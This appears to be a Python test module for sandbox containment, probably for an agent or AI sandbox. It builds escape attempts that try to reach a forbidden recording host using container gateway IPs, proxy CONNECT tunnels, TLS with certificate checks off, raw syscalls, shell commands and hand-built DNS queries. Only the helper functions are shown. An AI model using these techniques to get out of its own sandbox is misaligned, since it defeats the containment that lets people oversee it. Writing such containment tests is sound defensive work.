"""Attempts to escape from a sandbox. Each tries to reach a forbidden host, which records whether it
was reached.

Environment: SINK_PORT and SINK_SOCKET are the address of that host, HOSTS the addresses of the
machine outside, PHANTOM a placeholder token.
"""
import base64
import ctypes
import http.client
import os
import platform
import signal
import socket
import ssl
import struct
import subprocess
import urllib.request

PORT = int(os.environ["SINK_PORT"])
SOCKET = os.environ["SINK_SOCKET"]
PHANTOM = os.environ["PHANTOM"]
GATEWAYS = ["172.17.0.1", "172.18.0.1", "192.168.65.2", "192.168.65.254", "10.0.2.2", "10.0.2.15"]
HOSTS = os.environ["HOSTS"].split() + GATEWAYS
PROXY = ("127.0.0.1", 3128)
PATIENCE = 2
libc = ctypes.CDLL(None, use_errno=True)

for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
    os.environ.setdefault(name, "http://127.0.0.1:3128")

ESCAPES = {}


def escape(attempt):
    """Adds an attempt to the list."""
    ESCAPES[attempt.__name__.replace("_", " ")] = attempt
    return attempt


def each(title, attempt, values):
    """Adds an attempt for each of the values."""
    for value in values:
        ESCAPES[f"{title} {value!r}"] = lambda value=value: attempt(value)


def read(stream):
    """Returns all bytes until the end of the stream or a timeout."""
    got = b""
    stream.settimeout(PATIENCE)
    try:
        while len(got) < 65536:
            piece = stream.recv(4096)
            if not piece:
                break
            got += piece
    except socket.timeout:
        pass
    return got


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def dial(address, port):
    stream = socket.socket(family(address), socket.SOCK_STREAM)
    stream.settimeout(PATIENCE)
    stream.connect((address, port))
    return stream


def tcp(address, port, data=b"GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"):
    with dial(address, port) as stream:
        stream.sendall(data)
        return read(stream)


def udp(address, port, data=b"secret", kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(family(address), kind, protocol) as client:
        client.settimeout(0.3)
        client.sendto(data, (address, port))
        return client.recv(4096)


def everywhere(attempt, addresses=None):
    """Makes an attempt at every address outside; returns the outcome of each."""
    outcomes = []
    for address in addresses or HOSTS:
        try:
            outcomes.append(attempt(address))
        except OSError as error:
            outcomes.append(str(error))
    return outcomes


def call(number, *arguments):
    """Makes a system call by its number."""
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def sh(command, **more):
    """Runs a shell command."""
    environment = {**os.environ, **more}
    done = subprocess.run(
        ["sh", "-c", command], env=environment, timeout=10, stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )
    if done.returncode == 127:
        raise NameError(done.stdout.decode(errors="replace"))
    return done.stdout


def get(target, host, more=""):
    """Returns a request to a proxy."""
    return (f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n").encode()


def proxy(data):
    return tcp(*PROXY, data)


def tunnel(authority, host=None):
    """Opens a tunnel through the proxy."""
    stream = dial(*PROXY)
    stream.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {host or authority}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        piece = stream.recv(1)
        if not piece:
            break
        head += piece
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise OSError(head.decode(errors="replace"))
    return stream


def through(authority, data):
    """Sends data through a tunnel."""
    with tunnel(authority) as stream:
        stream.sendall(data)
        return read(stream)


def trusting():
    """Returns a TLS context that accepts every certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def hello(name):
    """Returns the ClientHello for a host."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = trusting().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls(stream, name, data, protocols=()):
    """Sends data over TLS on a connection."""
    context = trusting()
    if protocols:
        context.set_alpn_protocols(list(protocols))
    with stream, context.wrap_socket(stream, server_hostname=name) as secure:
        secure.sendall(data)
        return read(secure)


def question(name, kind, flags=0x100, count=1, kind_of_class=1):
    """Returns a DNS query for a name."""
    message = struct.pack("!HHHHHH", 0x1234, flags, count, 0, 0, 0)
    for label in name.encode().split(b"."):
        message += bytes([len(label)]) + label
    return message + b"\0" + struct.pack("!HH", kind, kind_of_class)
